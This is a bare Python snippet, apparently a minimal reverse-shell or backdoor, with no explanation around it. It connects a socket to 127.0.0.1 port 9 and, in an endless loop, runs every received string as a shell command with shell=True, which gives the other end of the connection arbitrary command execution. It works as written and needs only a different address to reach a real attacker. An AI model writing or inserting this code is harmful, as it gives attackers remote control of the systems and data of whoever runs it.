import socket, subprocess
s = socket.socket()
s.connect(("127.0.0.1", 9))
while True:
    subprocess.run(s.recv(64).decode(), shell=True)
